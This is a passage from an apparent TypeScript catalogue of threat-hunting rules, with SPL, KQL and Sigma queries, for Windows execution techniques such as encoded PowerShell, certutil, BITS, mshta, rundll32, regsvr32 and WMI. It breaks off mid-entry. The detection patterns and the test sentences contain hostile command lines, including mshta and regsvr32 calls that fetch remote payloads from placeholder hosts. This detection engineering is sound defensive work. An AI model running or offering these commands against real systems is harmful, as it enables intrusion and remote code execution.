// Execution: PowerShell, LOLBins, script hosts, Office and browser child processes.
import { CTIME, TSTATS } from '../spl-parts';
import type { CatalogueHunt } from '../types';

export function executionHunts(): CatalogueHunt[] {
  return [
    {
      id: 'UC_ENCODED_POWERSHELL',
      title: 'PowerShell with an encoded or hidden command line',
      description: 'Finds PowerShell started with a Base64-encoded command (-EncodedCommand and its short forms), a hidden window or ' +
        'a bypassed execution policy. Attackers encode their one-liners so that the command line hides the download cradle or ' +
        'payload it runs; administrators rarely need to.',
      phase: 'install',
      techniques: ['T1059.001', 'T1027.010'],
      telemetry: { splunk: ['Endpoint.Processes'], defender: ['DeviceProcessEvents'] },
      trigger: {
        techniques: ['T1059.001', 'T1027.010'],
        phrases: [/(?:base64[- ])?encoded (?:PowerShell|command)s?/i, /-e(?:nc|ncodedcommand)/, /powershell(?:\.exe)? (?:-\w+ )*-(?:w(?:indowstyle)? hidden|nop|ep bypass)/],
      },
      spl: [
        TSTATS,
        '  from datamodel=Endpoint.Processes',
        '  where Processes.process_name IN ("powershell.exe", "pwsh.exe")',
        '    (Processes.process="* -e *" OR Processes.process="* -en*" OR Processes.process="* -ec *" OR Processes.process="*-encodedcommand*" OR Processes.process="*-w hidden*" OR Processes.process="*-windowstyle hidden*")',
        '  by Processes.dest Processes.user Processes.parent_process_name Processes.process_name Processes.process',
        '| `drop_dm_object_name(Processes)`',
        CTIME,
      ].join('\n'),
      kql: [
        'DeviceProcessEvents',
        '| where Timestamp > ago(30d)',
        '| where FileName in~ ("powershell.exe", "pwsh.exe")',
        '| where ProcessCommandLine matches regex @"(?i)\\s-(e|en|enc|enco|encodedcommand|ec)\\s" or ProcessCommandLine has_any ("-w hidden", "-windowstyle hidden")',
        '| project Timestamp, DeviceName, AccountName, InitiatingProcessFileName, FileName, ProcessCommandLine',
        '| order by Timestamp desc',
      ].join('\n'),
      sigma: {
        logsource: { category: 'process_creation', product: 'windows' },
        detection: {
          selection_img: [{ 'Image|endswith': ['\\powershell.exe', '\\pwsh.exe'] }, { OriginalFileName: ['PowerShell.EXE', 'pwsh.dll'] }],
          selection_cli: { 'CommandLine|contains': [' -e ', ' -en ', ' -enc ', ' -enco ', ' -ec ', ' -encodedcommand ', '-w hidden', '-windowstyle hidden'] },
        },
        condition: 'all of selection_*',
      },
      falsePositives: ['Some management agents and installers run encoded PowerShell; baseline their parent processes and accounts.'],
      examples: {
        fire: ['The loader runs a Base64-encoded PowerShell command to fetch the second stage.', 'It then launches powershell.exe -nop -w hidden -enc with the payload.'],
        quiet: ['Defenders should monitor for encoded PowerShell commands.', 'No encoded command was observed in this intrusion.', 'The installer supports command-line options.'],
      },
    },
    {
      id: 'UC_CERTUTIL_DOWNLOAD_DECODE',
      title: 'Certutil used to download or decode a payload',
      description: 'Finds certutil.exe run with the URL-cache, verify-CTL or decode switches. The certificate utility ships with ' +
        'every Windows host and can fetch a file over HTTP or turn a Base64 or hex text file back into a binary, so intruders ' +
        'use it to pull their next stage past web proxies that trust signed Microsoft binaries. Certificate administrators ' +
        'almost never use these switches against internet URLs or files in user folders.',
      phase: 'install',
      techniques: ['T1105', 'T1140'],
      telemetry: { splunk: ['Endpoint.Processes'], defender: ['DeviceProcessEvents'] },
      trigger: {
        phrases: [
          /certutil(?:\.exe)? (?:\S+ ){0,3}[-/](?:urlcache|verifyctl|decodehex|decode)/i,
          /certutil(?:\.exe)? (?:\w+ ){0,3}to (?:download|fetch|retrieve|decode|de-?obfuscate)/i,
          /(?:download|fetch|retriev|decod)\w* (?:\w+ ){0,4}(?:with|using|via|through) certutil/i,
        ],
      },
      spl: [
        TSTATS,
        '  from datamodel=Endpoint.Processes',
        '  where (Processes.process_name="certutil.exe" OR Processes.original_file_name="CertUtil.exe")',
        '    (Processes.process="*urlcache*" OR Processes.process="*verifyctl*" OR Processes.process="*-decode*" OR Processes.process="*/decode*" OR Processes.process="*decodehex*")',
        '  by Processes.dest Processes.user Processes.parent_process_name Processes.process_name Processes.process',
        '| `drop_dm_object_name(Processes)`',
        CTIME,
      ].join('\n'),
      kql: [
        'DeviceProcessEvents',
        '| where Timestamp > ago(30d)',
        '| where FileName =~ "certutil.exe" or ProcessVersionInfoOriginalFileName =~ "CertUtil.exe"',
        '| where ProcessCommandLine has_any ("urlcache", "verifyctl", "-decode", "/decode", "decodehex")',
        '| extend Url = extract(@"(?i)(https?://[^\\s""]+)", 1, ProcessCommandLine)',
        '| project Timestamp, DeviceName, AccountName, InitiatingProcessFileName, InitiatingProcessCommandLine, FileName, ProcessCommandLine, Url',
        '| order by Timestamp desc',
      ].join('\n'),
      sigma: {
        logsource: { category: 'process_creation', product: 'windows' },
        detection: {
          selection_img: [{ 'Image|endswith': '\\certutil.exe' }, { OriginalFileName: 'CertUtil.exe' }],
          selection_cli: { 'CommandLine|contains': ['urlcache', 'verifyctl', '-decode', '/decode', 'decodehex'] },
        },
        condition: 'all of selection_*',
      },
      falsePositives: [
        'PKI administrators may run certutil -urlcache to inspect or flush the CRL cache; those runs name no internet file and come from admin workstations.',
        'Some build and deployment scripts decode Base64 artefacts with certutil -decode; baseline them by parent process and path.',
      ],
      examples: {
        fire: [
          'The batch file runs certutil -urlcache -split -f against the attacker server to fetch the loader.',
          'A second script decodes the Base64 blob with certutil into a DLL under ProgramData.',
          'The operators used certutil.exe to download the implant from a compromised WordPress site.',
        ],
        quiet: [
          'Defenders should watch for certutil -urlcache in process telemetry.',
          'Certutil is the standard tool for managing certificate stores on Windows.',
          'No certutil downloads were observed during the investigation.',
        ],
      },
    },
    {
      id: 'UC_BITSADMIN_TRANSFER',
      title: 'BITS jobs created to download or launch a payload',
      description: 'Finds bitsadmin.exe creating transfer jobs, adding files or setting a notify command, and PowerShell ' +
        'Start-BitsTransfer calls. The Background Intelligent Transfer Service downloads quietly, survives reboots and can run ' +
        'a command when a job finishes, which lets intruders stage tools and keep a foothold through a trusted service.',
      phase: 'install',
      techniques: ['T1197', 'T1105'],
      telemetry: { splunk: ['Endpoint.Processes'], defender: ['DeviceProcessEvents'] },
      trigger: {
        techniques: ['T1197'],
        phrases: [
          /bitsadmin(?:\.exe)? (?:\S+ ){0,2}\/(?:transfer|addfile|create|setnotifycmdline|resume)/i,
          /Start-BitsTransfer/i,
          /(?:malicious|rogue|attacker-created|persistent) BITS jobs?/i,
          /(?:download|fetch|retriev|pull)\w* (?:\w+ ){0,4}(?:with|using|via|through) (?:bitsadmin|BITS)/i,
        ],
      },
      spl: [
        TSTATS,
        '  from datamodel=Endpoint.Processes',
        '  where ((Processes.process_name="bitsadmin.exe" (Processes.process="*/transfer*" OR Processes.process="*/addfile*" OR Processes.process="*/create*" OR Processes.process="*/SetNotifyCmdLine*"))',
        '    OR (Processes.process_name IN ("powershell.exe", "pwsh.exe") Processes.process="*Start-BitsTransfer*"))',
        '  by Processes.dest Processes.user Processes.parent_process_name Processes.process_name Processes.process',
        '| `drop_dm_object_name(Processes)`',
        CTIME,
      ].join('\n'),
      kql: [
        'DeviceProcessEvents',
        '| where Timestamp > ago(30d)',
        '| where (FileName =~ "bitsadmin.exe" and ProcessCommandLine has_any ("/transfer", "/addfile", "/create", "/SetNotifyCmdLine"))',
        '    or (FileName in~ ("powershell.exe", "pwsh.exe") and ProcessCommandLine has "Start-BitsTransfer")',
        '| extend Url = extract(@"(?i)(https?://[^\\s""]+)", 1, ProcessCommandLine)',
        '| project Timestamp, DeviceName, AccountName, InitiatingProcessFileName, FileName, ProcessCommandLine, Url',
        '| order by Timestamp desc',
      ].join('\n'),
      sigma: {
        logsource: { category: 'process_creation', product: 'windows' },
        detection: {
          selection_bitsadmin: {
            'Image|endswith': '\\bitsadmin.exe',
            'CommandLine|contains': ['/transfer', '/addfile', '/create', '/SetNotifyCmdLine'],
          },
          selection_powershell: {
            'Image|endswith': ['\\powershell.exe', '\\pwsh.exe'],
            'CommandLine|contains': 'Start-BitsTransfer',
          },
        },
        condition: '1 of selection_*',
      },
      falsePositives: ['Software distribution and update tools (SCCM, some vendor updaters) create BITS jobs; expect known parents, signed updaters and vendor URLs.'],
      examples: {
        fire: [
          'The macro calls bitsadmin /transfer myjob /download /priority high to pull the payload into the Temp folder.',
          'Persistence was kept with a malicious BITS job whose notify command relaunched the backdoor.',
        ],
        quiet: [
          'Windows Update relies on the Background Intelligent Transfer Service to fetch patches.',
          'Monitor bitsadmin /transfer usage on workstations.',
          'The actors did not use bitsadmin in this campaign.',
        ],
      },
    },
    {
      id: 'UC_MSHTA_REMOTE_SCRIPT',
      title: 'Mshta running a remote HTA or inline script',
      description: 'Finds mshta.exe started with an http(s) URL, an inline javascript: or vbscript: command, or an HTA file from a ' +
        'user-writable folder, together with mshta making outbound connections. HTML applications run with full user rights ' +
        'outside the browser sandbox, so lures and fake CAPTCHA pages use mshta to run their first-stage script.',
      phase: 'install',
      techniques: ['T1218.005'],
      telemetry: { splunk: ['Endpoint.Processes'], defender: ['DeviceProcessEvents', 'DeviceNetworkEvents'] },
      trigger: {
        techniques: ['T1218.005'],
        phrases: [
          /mshta(?:\.exe)? (?:\S+ )?(?:hxxps?|https?|javascript|vbscript):/i,
          /mshta(?:\.exe)? (?:\w+ ){0,3}to (?:run|execute|launch|fetch|download|load)/i,
          /(?:malicious|remote|weaponi[sz]ed) HTA (?:files?|applications?|payloads?|scripts?)/i,
          /(?:ran|runs|launch\w*|execut\w*|open\w*) (?:\w+ ){0,4}(?:via|with|using|through) mshta/i,
        ],
      },
      spl: [
        TSTATS,
        '  from datamodel=Endpoint.Processes',
        '  where (Processes.process_name="mshta.exe" OR Processes.original_file_name="MSHTA.EXE")',
        '    (Processes.process="*http:*" OR Processes.process="*https:*" OR Processes.process="*javascript:*" OR Processes.process="*vbscript:*"',
        '     OR Processes.process="*\\\\AppData\\\\*" OR Processes.process="*\\\\Temp\\\\*" OR Processes.process="*\\\\Users\\\\Public\\\\*" OR Processes.process="*\\\\Downloads\\\\*")',
        '  by Processes.dest Processes.user Processes.parent_process_name Processes.process_name Processes.process',
        '| `drop_dm_object_name(Processes)`',
        CTIME,
      ].join('\n'),
      kql: [
        'let lookback = 30d;',
        'union',
        '(DeviceProcessEvents',
        '  | where Timestamp > ago(lookback)',
        '  | where FileName =~ "mshta.exe" or ProcessVersionInfoOriginalFileName =~ "MSHTA.EXE"',
        '  | where ProcessCommandLine has_any ("http:", "https:", "javascript:", "vbscript:", @"\\AppData\\", @"\\Temp\\", @"\\Users\\Public\\", @"\\Downloads\\")',
        '  | project Timestamp, DeviceName, Account = AccountName, Parent = InitiatingProcessFileName, CommandLine = ProcessCommandLine, Remote = ""),',
        '(DeviceNetworkEvents',
        '  | where Timestamp > ago(lookback)',
        '  | where InitiatingProcessFileName =~ "mshta.exe" and RemoteIPType == "Public"',
        '  | project Timestamp, DeviceName, Account = InitiatingProcessAccountName, Parent = InitiatingProcessParentFileName, CommandLine = InitiatingProcessCommandLine, Remote = coalesce(RemoteUrl, RemoteIP))',
        '| order by Timestamp desc',
      ].join('\n'),
      sigma: {
        logsource: { category: 'process_creation', product: 'windows' },
        detection: {
          selection_img: [{ 'Image|endswith': '\\mshta.exe' }, { OriginalFileName: 'MSHTA.EXE' }],
          selection_cli: { 'CommandLine|contains': ['http:', 'https:', 'javascript:', 'vbscript:', '\\AppData\\', '\\Temp\\', '\\Users\\Public\\', '\\Downloads\\'] },
        },
        condition: 'all of selection_*',
        note: 'This rule covers the command line; the hunt also looks for mshta.exe connecting to public addresses (a network_connection rule).',
      },
      falsePositives: ['A few legacy line-of-business tools and installers still ship HTA front ends; they run from Program Files, not from a URL or a download folder.'],
      examples: {
        fire: [
          'The fake CAPTCHA page tells the victim to paste a command that runs mshta https://cdn-check.example/verify.hta.',
          'The shortcut file launches the next stage via mshta with an inline VBScript command.',
          'Victims opened a weaponized HTA file delivered in a ZIP archive.',
        ],
        quiet: [
          'Block mshta.exe with application control where it is not needed.',
          'The HTA format was introduced with Internet Explorer 5.',
          'No mshta execution was seen on the affected hosts.',
        ],
      },
    },
    {
      id: 'UC_RUNDLL32_UNUSUAL_DLL',
      title: 'Rundll32 loading a DLL from a user-writable path, by ordinal, or with a script protocol',
      description: 'Finds rundll32.exe whose command line points at a DLL in AppData, Temp, ProgramData, Public or Downloads, calls ' +
        'an export by ordinal number, loads a file without a .dll extension, runs javascript:, or has no arguments at all (a ' +
        'common sign of a process started only to be injected into). Loaders drop a DLL and run it through rundll32 so the ' +
        'running process is a signed Windows binary.',
      phase: 'install',
      techniques: ['T1218.011'],
      telemetry: { splunk: ['Endpoint.Processes'], defender: ['DeviceProcessEvents'] },
      trigger: {
        techniques: ['T1218.011'],
        phrases: [
          /rundll32(?:\.exe)? "?[^\s,"]+"?,\s?#\d+/i,
          /rundll32(?:\.exe)? javascript:/i,
          /(?:load\w*|execut\w*|run\w*|launch\w*|invok\w*|start\w*) (?:\w+ ){0,4}(?:DLL|payload|export|library) (?:\w+ ){0,3}(?:via|with|using|through) rundll32/i,
          /rundll32(?:\.exe)? (?:\w+ ){0,2}to (?:load|execute|run|launch|invoke|start)/i,
          /(?:DLL|payload|library|export) (?:\w+ ){0,3}(?:is |was |were |are |gets )?(?:executed|run|launched|loaded|invoked|started) (?:\w+ ){0,2}(?:via|with|using|through|by) rundll32/i,
        ],
      },
      spl: [
        TSTATS,
        '  from datamodel=Endpoint.Processes',
        '  where (Processes.process_name="rundll32.exe" OR Processes.original_file_name="RUNDLL32.EXE")',
        '    (Processes.process="*\\\\AppData\\\\*" OR Processes.process="*\\\\Temp\\\\*" OR Processes.process="*\\\\ProgramData\\\\*" OR Processes.process="*\\\\Users\\\\Public\\\\*"',
        '     OR Processes.process="*\\\\Downloads\\\\*" OR Processes.process="*,#*" OR Processes.process="*javascript:*" OR Processes.process="*rundll32.exe" OR Processes.process="*rundll32.exe\\"")',
        '  by Processes.dest Processes.user Processes.parent_process_name Processes.process_name Processes.process',
        '| `drop_dm_object_name(Processes)`',
        CTIME,
      ].join('\n'),
      kql: [
        'DeviceProcessEvents',
        '| where Timestamp > ago(30d)',
        '| where FileName =~ "rundll32.exe" or ProcessVersionInfoOriginalFileName =~ "RUNDLL32.EXE"',
        '| extend UserPath = ProcessCommandLine has_any (@"\\AppData\\", @"\\Temp\\", @"\\ProgramData\\", @"\\Users\\Public\\", @"\\Downloads\\")',
        '| extend Ordinal = ProcessCommandLine matches regex @",\\s*#\\d+"',
        '| extend ScriptProtocol = ProcessCommandLine has_any ("javascript:", "vbscript:")',
        '| extend NoArguments = ProcessCommandLine matches regex @"(?i)rundll32(\\.exe)?""?\\s*$"',
        '| extend NotDll = ProcessCommandLine matches regex @"(?i)rundll32(\\.exe)?""?\\s+""?[^,""]+\\.(dat|tmp|bin|png|jpg|gif|txt|log|ini|db|cpl)""?\\s*,"',
        '| where UserPath or Ordinal or ScriptProtocol or NoArguments or NotDll',
        '| where not(ProcessCommandLine has_any ("shell32.dll,Control_RunDLL", "printui.dll"))',
        '| project Timestamp, DeviceName, AccountName, InitiatingProcessFileName, InitiatingProcessCommandLine, ProcessCommandLine, UserPath, Ordinal, ScriptProtocol, NoArguments, NotDll',
        '| order by Timestamp desc',
      ].join('\n'),
      sigma: {
        logsource: { category: 'process_creation', product: 'windows' },
        detection: {
          selection_img: [{ 'Image|endswith': '\\rundll32.exe' }, { OriginalFileName: 'RUNDLL32.EXE' }],
          selection_user_path: { 'CommandLine|contains': ['\\AppData\\', '\\Temp\\', '\\ProgramData\\', '\\Users\\Public\\', '\\Downloads\\'] },
          selection_ordinal: { 'CommandLine|contains': [',#', ', #'] },
          selection_script: { 'CommandLine|contains': ['javascript:', 'vbscript:'] },
          selection_no_args: { 'CommandLine|endswith': ['rundll32.exe', 'rundll32.exe"', 'rundll32'] },
          selection_not_dll: { 'CommandLine|re|i': 'rundll32(\\.exe)?"?\\s+"?[^,"]+\\.(dat|tmp|bin|png|jpg|gif|txt|log|ini|db|cpl)"?\\s*,' },
          filter_main_known: { 'CommandLine|contains': ['shell32.dll,Control_RunDLL', 'printui.dll'] },
        },
        condition: 'selection_img and (selection_user_path or selection_ordinal or selection_script or selection_no_args or selection_not_dll) and not filter_main_known',
      },
      falsePositives: [
        'Per-user installs (Teams, Zoom, some printer drivers) call rundll32 on DLLs under AppData; check the signer and prevalence of the DLL.',
        'Control Panel applets and printer dialogs use rundll32 with well-known system DLLs; they are excluded by name.',
      ],
      examples: {
        fire: [
          'The LNK file executes the dropped DLL via rundll32 with the export DllRegisterServer.',
          'It then runs rundll32.exe C:\\Users\\Public\\update.dat,#1 to start the loader.',
          'The script uses rundll32 to load a library hidden in the ProgramData folder.',
        ],
        quiet: [
          'Rundll32 is a legitimate Windows component used to run DLL functions.',
          'Restrict rundll32 network connections with firewall rules.',
          'The update never called rundll32 during installation.',
          'The library is loaded by explorer.exe at logon.',
        ],
      },
    },
    {
      id: 'UC_REGSVR32_SCRIPTLET',
      title: 'Regsvr32 fetching a remote scriptlet (Squiblydoo) or registering a DLL from a user folder',
      description: 'Finds regsvr32.exe with /i: pointing at a URL or UNC path, the scrobj.dll scriptlet handler, or a DLL in a ' +
        'user-writable folder, plus regsvr32 network connections to the internet. Squiblydoo lets a signed Windows binary download ' +
        'and run a COM scriptlet without writing it to disk; registering a DLL from Temp or AppData is a common loader launch.',
      phase: 'install',
      techniques: ['T1218.010'],
      telemetry: { splunk: ['Endpoint.Processes'], defender: ['DeviceProcessEvents', 'DeviceNetworkEvents'] },
      trigger: {
        techniques: ['T1218.010'],
        phrases: [
          /Squiblydoo/i,
          /regsvr32(?:\.exe)? (?:\S+ ){0,3}[-/]i:(?:hxxps?|https?|ftp|\\\\)/i,
          /scrobj\.dll/i,
          /regsvr32(?:\.exe)? (?:\w+ ){0,3}to (?:load|execute|run|fetch|download|launch)/i,
          /(?:load\w*|execut\w*|run\w*|launch\w*|start\w*) (?:\w+ ){0,4}(?:via|with|using|through) regsvr32/i,
        ],
      },
      spl: [
        TSTATS,
        '  from datamodel=Endpoint.Processes',
        '  where (Processes.process_name="regsvr32.exe" OR Processes.original_file_name="REGSVR32.EXE")',
        '    (Processes.process="*/i:http*" OR Processes.process="*-i:http*" OR Processes.process="*/i:\\\\\\\\*" OR Processes.process="*scrobj*"',
        '     OR Processes.process="*\\\\AppData\\\\*" OR Processes.process="*\\\\Temp\\\\*" OR Processes.process="*\\\\Users\\\\Public\\\\*" OR Processes.process="*\\\\ProgramData\\\\*")',
        '  by Processes.dest Processes.user Processes.parent_process_name Processes.process_name Processes.process',
        '| `drop_dm_object_name(Processes)`',
        CTIME,
      ].join('\n'),
      kql: [
        'let lookback = 30d;',
        'union',
        '(DeviceProcessEvents',
        '  | where Timestamp > ago(lookback)',
        '  | where FileName =~ "regsvr32.exe" or ProcessVersionInfoOriginalFileName =~ "REGSVR32.EXE"',
        '  | where ProcessCommandLine matches regex @"(?i)[-/]i:\\s*""?(https?|ftp|\\\\\\\\)" or ProcessCommandLine has "scrobj"',
        '      or ProcessCommandLine has_any (@"\\AppData\\", @"\\Temp\\", @"\\Users\\Public\\", @"\\ProgramData\\")',
        '  | project Timestamp, DeviceName, Account = AccountName, Parent = InitiatingProcessFileName, CommandLine = ProcessCommandLine, Remote = ""),',
        '(DeviceNetworkEvents',
        '  | where Timestamp > ago(lookback)',
        '  | where InitiatingProcessFileName =~ "regsvr32.exe" and RemoteIPType == "Public"',
        '  | project Timestamp, DeviceName, Account = InitiatingProcessAccountName, Parent = InitiatingProcessParentFileName, CommandLine = InitiatingProcessCommandLine, Remote = coalesce(RemoteUrl, RemoteIP))',
        '| order by Timestamp desc',
      ].join('\n'),
      sigma: {
        logsource: { category: 'process_creation', product: 'windows' },
        detection: {
          selection_img: [{ 'Image|endswith': '\\regsvr32.exe' }, { OriginalFileName: 'REGSVR32.EXE' }],
          selection_remote: { 'CommandLine|re|i': '[-/]i:\\s*"?(https?|ftp|\\\\\\\\)' },
          selection_cli: { 'CommandLine|contains': ['scrobj', '\\AppData\\', '\\Temp\\', '\\Users\\Public\\', '\\ProgramData\\'] },
        },
        condition: 'selection_img and (selection_remote or selection_cli)',
        note: 'This rule covers the command line; the hunt also looks for regsvr32.exe connecting to public addresses (a network_connection rule).',
      },
      falsePositives: ['Per-user application installers register COM DLLs from AppData; regsvr32 contacting the internet or loading scrobj.dll is rarely legitimate.'],
      examples: {
        fire: [
          'The dropper runs regsvr32 /s /n /u /i:https://files.example/payload.sct scrobj.dll to execute the scriptlet.',
          'This Squiblydoo technique lets the actor run remote code without touching disk.',
          'The downloaded DLL is launched via regsvr32 from the AppData folder.',
        ],
        quiet: [
          'The installer registers its COM components with regsvr32 during setup.',
          'Consider blocking regsvr32 outbound traffic at the proxy.',
          'Regsvr32 is signed by Microsoft.',
        ],
      },
    },
    {
      id: 'UC_WMI_PROCESS_CREATION',
      title: 'Processes started through WMI (wmic process call create, WmiPrvSE children)',
      description: 'Finds processes created through Windows Management Instrumentation: wmic process call create (local or with ' +
        '/node: against a remote host), PowerShell Invoke-WmiMethod / Invoke-CimMethod on Win32_Process, and shells or LOLBins ' +
        'whose parent is the WMI provider host WmiPrvSE.exe, plus the Defender ProcessCreatedUsingWmiQuery event. WMI execution ' +
        'breaks the usual parent-child chain and is a favourite of hands-on-keyboard operators and worms.',
      phase: 'exploit',
      techniques: ['T1047'],
      telemetry: { splunk: ['Endpoint.Processes'], defender: ['DeviceProcessEvents', 'DeviceEvents'] },
      trigger: {
        techniques: ['T1047'],
        phrases: [
          /wmic(?:\.exe)? (?:\S+ ){0,3}process call create/i,
          /Invoke-WmiMethod (?:\S+ ){0,4}(?:Win32_Process|Create)/i,
          /Win32_Process(?:\]|\.|::)?\s?Create/i,
          /WmiPrvSE(?:\.exe)? (?:spawn|launch|start|creat)\w*/i,
          /(?:use[ds]?|using|leverag\w*|abus\w*) (?:the )?(?:WMIC|WMI)(?:\.exe)? (?:\w+ ){0,2}to (?:execute|run|launch|start|spawn|create)/i,
          /(?:spawn|launch|start|execut|ran|run)\w* (?:\w+ ){0,4}(?:via|through|using|with) (?:WMI|WMIC|Windows Management Instrumentation)/i,
        ],
      },
      spl: [
        TSTATS,
        '  from datamodel=Endpoint.Processes',
        '  where (Processes.parent_process_name="WmiPrvSE.exe" Processes.process_name IN ("cmd.exe", "powershell.exe", "pwsh.exe", "mshta.exe", "rundll32.exe", "regsvr32.exe", "wscript.exe", "cscript.exe", "certutil.exe", "bitsadmin.exe", "msiexec.exe"))',
        '    OR (Processes.process_name="wmic.exe" Processes.process="*process*call*create*")',
        '    OR (Processes.process_name IN ("powershell.exe", "pwsh.exe") Processes.process="*Win32_Process*" (Processes.process="*Invoke-WmiMethod*" OR Processes.process="*Invoke-CimMethod*"))',
        '  by Processes.dest Processes.user Processes.parent_process_name Processes.process_name Processes.process',
        '| `drop_dm_object_name(Processes)`',
        CTIME,
      ].join('\n'),
      kql: [
        'let lookback = 30d;',
        'let shells = dynamic(["cmd.exe", "powershell.exe", "pwsh.exe", "mshta.exe", "rundll32.exe", "regsvr32.exe", "wscript.exe", "cscript.exe", "certutil.exe", "bitsadmin.exe", "msiexec.exe"]);',
        'union',
        '(DeviceProcessEvents',
        '  | where Timestamp > ago(lookback)',
        '  | where (InitiatingProcessFileName =~ "WmiPrvSE.exe" and FileName in~ (shells))',
        '      or (FileName =~ "wmic.exe" and ProcessCommandLine has "process" and ProcessCommandLine has "call" and ProcessCommandLine has "create")',
        '      or (FileName in~ ("powershell.exe", "pwsh.exe") and ProcessCommandLine has "Win32_Process" and ProcessCommandLine has_any ("Invoke-WmiMethod", "Invoke-CimMethod"))',
        '  | project Timestamp, DeviceName, AccountName, Source = "process", InitiatingProcessFileName, FileName, ProcessCommandLine),',
        '(DeviceEvents',
        '  | where Timestamp > ago(lookback)',
        '  | where ActionType == "ProcessCreatedUsingWmiQuery"',
        '  | project Timestamp, DeviceName, AccountName, Source = "ProcessCreatedUsingWmiQuery", InitiatingProcessFileName, FileName, ProcessCommandLine)',
        '| order by Timestamp desc',
      ].join('\n'),
      sigma: {
        logsource: { category: 'process_creation', product: 'windows' },
        detection: {
          selection_wmiprvse: {
            'ParentImage|endswith': '\\WmiPrvSE.exe',
            'Image|endswith': ['\\cmd.exe', '\\powershell.exe', '\\pwsh.exe', '\\mshta.exe', '\\rundll32.exe', '\\regsvr32.exe', '\\wscript.exe', '\\cscript.exe', '\\certutil.exe', '\\bitsadmin.exe', '\\msiexec.exe'],
          },
          selection_wmic: {
            'Image|endswith': '\\wmic.exe',
            'CommandLine|contains|all': ['process', 'call', 'create'],
          },
          selection_powershell: {
            'Image|endswith': ['\\powershell.exe', '\\pwsh.exe'],
            'CommandLine|contains|all': ['Win32_Process'],
            'CommandLine|contains': ['Invoke-WmiMethod', 'Invoke-CimMethod'],
          },
        },
        condition: '1 of selection_*',
      },
      falsePositives: ['Configuration management (SCCM, monitoring agents, vendor inventory scripts) starts processes through WMI; baseline by account, command line and source host.'],
      examples: {
        fire: [
          'The operators used wmic /node:10.0.0.15 process call create to start the payload on the file server.',
          'On each host the ransomware was launched through WMI from the compromised admin account.',
          'WmiPrvSE.exe spawned powershell.exe with the encoded stager.',
        ],
        quiet: [
          'WMI is widely used by administrators for inventory queries.',
          'Administrators use WMI to query installed software.',
          'Audit WMI activity with the WMI-Activity operational log.',
          'The Win32_Process class lists the processes running on a computer.',
        ],
      },
    },
    {
      id: 'UC_SCRIPT_HOST_USER_PATH',
      title: 'Windows Script Host running a script from a user-writable folder',
      description: 'Finds wscript.exe or cscript.exe running a .js, .jse, .vbs, .vbe, .wsf or .wsh file from Downloads, AppData, ' +
        'Temp, Public or ProgramData, including scripts opened straight out of an archive. Script droppers delivered by email or ' +
        'drive-by downloads (SocGholish, GootLoader, many loaders) rely on a double-click opening them in Windows Script Host; ' +
        'administrators run their scripts from shares or system folders.',
      phase: 'exploit',
      techniques: ['T1059.005', 'T1059.007'],
      telemetry: { splunk: ['Endpoint.Processes'], defender: ['DeviceProcessEvents'] },
      trigger: {
        techniques: ['T1059.005', 'T1059.007'],
        phrases: [
          /(?:wscript|cscript)(?:\.exe)? (?:\S+ ){0,3}\S+\.(?:jse?|vbe|vbs|wsf|wsh)/i,
          /(?:malicious|obfuscated|weaponi[sz]ed) (?:JScript|VBScript|JavaScript|\.js|\.vbs|WSF) (?:files?|scripts?|droppers?|loaders?|attachments?)/i,
          /(?:ran|runs|launch\w*|execut\w*|open\w*) (?:\w+ ){0,3}(?:via|with|using|through|by|in) (?:wscript|cscript|Windows Script Host)/i,
        ],
      },
      spl: [
        TSTATS,
        '  from datamodel=Endpoint.Processes',
        '  where Processes.process_name IN ("wscript.exe", "cscript.exe")',
        '    (Processes.process="*.js*" OR Processes.process="*.vbs*" OR Processes.process="*.vbe*" OR Processes.process="*.wsf*" OR Processes.process="*.wsh*")',
        '    (Processes.process="*\\\\Downloads\\\\*" OR Processes.process="*\\\\AppData\\\\*" OR Processes.process="*\\\\Temp\\\\*" OR Processes.process="*\\\\Users\\\\Public\\\\*" OR Processes.process="*\\\\ProgramData\\\\*")',
        '  by Processes.dest Processes.user Processes.parent_process_name Processes.process_name Processes.process',
        '| `drop_dm_object_name(Processes)`',
        CTIME,
      ].join('\n'),
      kql: [
        'DeviceProcessEvents',
        '| where Timestamp > ago(30d)',
        '| where FileName in~ ("wscript.exe", "cscript.exe")',
        '| extend Script = extract(@"(?i)([^""\\s]+\\.(jse?|vbe|vbs|wsf|wsh))\\b", 1, ProcessCommandLine)',
        '| where isnotempty(Script)',
        '| where ProcessCommandLine has_any (@"\\Downloads\\", @"\\AppData\\", @"\\Temp\\", @"\\Users\\Public\\", @"\\ProgramData\\")',
        '| extend FromArchive = InitiatingProcessFileName in~ ("7zFM.exe", "WinRAR.exe", "explorer.exe") and ProcessCommandLine matches regex @"(?i)\\\\Temp\\\\(7z|Rar\\$|[^\\\\]+\\.zip\\\\)"',
        '| project Timestamp, DeviceName, AccountName, InitiatingProcessFileName, ProcessCommandLine, Script, FromArchive',
        '| order by Timestamp desc',
      ].join('\n'),
      sigma: {
        logsource: { category: 'process_creation', product: 'windows' },
        detection: {
          selection_img: { 'Image|endswith': ['\\wscript.exe', '\\cscript.exe'] },
          selection_script: { 'CommandLine|contains': ['.js', '.jse', '.vbe', '.vbs', '.wsf', '.wsh'] },
          selection_path: { 'CommandLine|contains': ['\\Downloads\\', '\\AppData\\', '\\Temp\\', '\\Users\\Public\\', '\\ProgramData\\'] },
        },
        condition: 'all of selection_*',
      },
      falsePositives: ['Logon scripts and some vendor tools run VBScript from ProgramData or a user Temp folder; they recur on many hosts with the same hash and parent.'],
      examples: {
        fire: [
          'Opening the ZIP shows a single file, and double-clicking it runs wscript.exe C:\\Users\\bob\\Downloads\\Invoice_4412.js.',
          'The phishing email carried an obfuscated JScript loader disguised as a PDF.',
          'The second stage is a VBS file executed via cscript from the AppData folder.',
        ],
        quiet: [
          'Block wscript.exe for standard users through application control.',
          'The intranet portal is written in JavaScript.',
          'Windows Script Host has shipped with Windows since Windows 98.',
        ],
      },
    },
    {
      id: 'UC_MSIEXEC_REMOTE_PACKAGE',
      title: 'Msiexec installing a package from a URL or a user-writable folder',
      description: 'Finds msiexec.exe installing (/i, /package) or applying (/y, /z) a package named by an http(s) URL or taken ' +
        'from Downloads, AppData, Temp or Public, usually quietly (/q), plus msiexec connecting to internet addresses. Loaders ' +
        'and fake-installer campaigns use the signed Windows Installer to fetch and run an MSI that drops the real payload; ' +
        'software deployment installs from file shares or management agents instead.',
      phase: 'install',
      techniques: ['T1218.007'],
      telemetry: { splunk: ['Endpoint.Processes'], defender: ['DeviceProcessEvents', 'DeviceNetworkEvents'] },
      trigger: {
        techniques: ['T1218.007'],
        phrases: [
